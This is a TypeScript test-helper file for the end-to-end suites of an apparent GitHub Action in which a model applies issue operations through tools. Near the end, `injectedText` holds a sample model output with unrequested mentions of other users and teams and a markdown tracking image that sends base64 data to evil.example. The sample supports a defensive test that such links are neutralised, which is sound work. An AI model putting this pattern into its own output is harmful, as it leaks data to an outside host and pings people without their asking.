import type { FakeIssueComment } from "../fakes/github-server.js";
import type { FakeToolCall, RecordedRequest } from "../fakes/model-server.js";
import type { ActionRun, Stage } from "./harness.js";

/**
 * What the end-to-end suites of GitHub operations, structured results and proposals (DESIGN
 * section 9) read back: the tool results the model was given, the `operations` output, the
 * action's comments, and the model's calls of the operation tools.
 */

/** One operation as the `operations` output lists it. */
export interface ReportedOperation {
  type: string;
  target?: number;
  status: "applied" | "refused" | "proposed";
  url?: string;
  reason?: string;
  summary?: string;
}

/** The `operations` output, parsed; it must be a JSON array. */
export function operationsOutput(run: ActionRun): ReportedOperation[] {
  const text = run.outputs.operations ?? "";
  const parsed: unknown = JSON.parse(text === "" ? "null" : text);
  if (!Array.isArray(parsed)) throw new Error(`the operations output is not a JSON array: ${text}`);
  return parsed as ReportedOperation[];
}

/** One tool result the model was given: its text and whether it was an error. */
export interface SeenResult {
  text: string;
  isError: boolean;
}

interface WireToolResult {
  type: string;
  content?: unknown;
  is_error?: boolean;
}

/** The tool results in the last message of an Anthropic request, in the order of the calls. */
export function resultsIn(request: RecordedRequest | undefined): SeenResult[] {
  const last = request?.body?.messages?.at(-1);
  const blocks: WireToolResult[] = Array.isArray(last?.content) ? last.content : [];
  return blocks
    .filter((block) => block.type === "tool_result")
    .map((block) => ({ text: contentText(block.content), isError: block.is_error === true }));
}

/** The tool results the model got in request `index` of the stage's model. */
export function toolResults(s: Stage, index: number): SeenResult[] {
  return resultsIn(s.model.requests[index]);
}

function contentText(content: unknown): string {
  if (typeof content === "string") return content;
  if (!Array.isArray(content)) return "";
  return content.map((block: { text?: string }) => block.text ?? "").join("");
}

/** The names of the tools the model was offered in request `index`. */
export function offeredTools(s: Stage, index = 0): string[] {
  const tools: { name: string }[] = s.model.requests[index]?.body?.tools ?? [];
  return tools.map((tool) => tool.name);
}

/** The tool an Anthropic request offered under `name`: its description and input schema. */
export function offeredTool(
  s: Stage,
  name: string,
  index = 0,
): { name: string; description?: string; input_schema?: Record<string, unknown> } | undefined {
  const tools: { name: string; description?: string; input_schema?: Record<string, unknown> }[] =
    s.model.requests[index]?.body?.tools ?? [];
  return tools.find((tool) => tool.name === name);
}

/** Comments the action's identity wrote on issue `issueNumber`, oldest first. */
export function botComments(s: Stage, issueNumber: number): FakeIssueComment[] {
  return s.gh.state.comments.filter((c) => c.issueNumber === issueNumber && c.user.type === "Bot");
}

/**
 * The tracking comment on `issueNumber`: the action's first comment there (the one it creates at
 * the start and rewrites), as opposed to comments an operation added later.
 */
export function trackingComment(s: Stage, issueNumber: number): FakeIssueComment | undefined {
  return botComments(s, issueNumber)[0];
}

/** Every request the fake GitHub got, as `METHOD /path`, for checks on where the action wrote. */
export function githubCalls(s: Stage): string[] {
  return s.gh.requests.map((r) => `${r.method} ${r.path}`);
}

/** Requests that change something on GitHub (anything but GET), as `METHOD /path`. */
export function githubWrites(s: Stage): string[] {
  return s.gh.requests.filter((r) => r.method !== "GET").map((r) => `${r.method} ${r.path}`);
}

/** The model's call of an operation tool. */
export const call = {
  addLabels: (labels: string[], issue?: number | string): FakeToolCall => ({
    name: "add_labels",
    arguments: issue === undefined ? { labels } : { labels, issue },
  }),
  removeLabels: (labels: string[], issue?: number | string): FakeToolCall => ({
    name: "remove_labels",
    arguments: issue === undefined ? { labels } : { labels, issue },
  }),
  createIssue: (title: string, body: string, labels?: string[]): FakeToolCall => ({
    name: "create_issue",
    arguments: labels === undefined ? { title, body } : { title, body, labels },
  }),
  addComment: (body: string, issue?: number | string): FakeToolCall => ({
    name: "add_comment",
    arguments: issue === undefined ? { body } : { body, issue },
  }),
  closeIssue: (
    reason: "completed" | "not_planned",
    options: { issue?: number | string; comment?: string } = {},
  ): FakeToolCall => ({ name: "close_issue", arguments: { reason, ...options } }),
  submit: (args: Record<string, unknown>): FakeToolCall => ({ name: "submit_output", arguments: args }),
};

/** The names of the operation tools, in the order `safe-outputs` keys list them. */
export const OPERATION_TOOLS = ["add_labels", "remove_labels", "create_issue", "add_comment", "close_issue"];

/** A text the model writes holding a mention of someone else, a tracking image and a GitHub link. */
export function injectedText(requester: string, repoUrl: string): string {
  return [
    `Thanks @${requester}. Paging @mallory and @octo-org/admins about this.`,
    "![status](https://evil.example/pixel.png?d=c2VjcmV0)",
    `See ${repoUrl}/issues/1 for the history.`,
  ].join("\n\n");
}

/** The off-host image address in `injectedText`, which must reach GitHub only as code. */
export const OFF_HOST_IMAGE = "https://evil.example/pixel.png?d=c2VjcmV0";
